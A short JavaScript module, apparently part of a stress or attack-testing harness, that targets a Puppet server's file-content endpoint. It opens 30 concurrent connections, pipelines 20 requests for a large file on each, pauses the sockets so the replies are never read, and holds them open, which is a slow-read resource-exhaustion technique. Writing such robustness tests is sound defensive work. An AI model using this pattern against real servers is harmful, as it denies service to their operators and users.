// Requests for a large file, many on one connection, whose answers are never read.
import { captured } from '../place.js'
import { heldOpen } from './held-open.js'

const request =
  'GET /puppet/v3/file_content/modules/profile/large.bin?environment=production HTTP/1.1\r\nHost: localhost\r\nAccept: application/octet-stream\r\n\r\n'

export const unreadAnswers = {
  every: 25,
  /** @param {import('../attack.js').Attack} attack */
  act: (attack) =>
    attack.together(30, async () => {
      const socket = await attack.secured(captured[2])
      if (typeof socket === 'string') return socket
      socket.pause()
      socket.write(request.repeat(20))
      return heldOpen(socket, attack, 20_000)
    }),
}
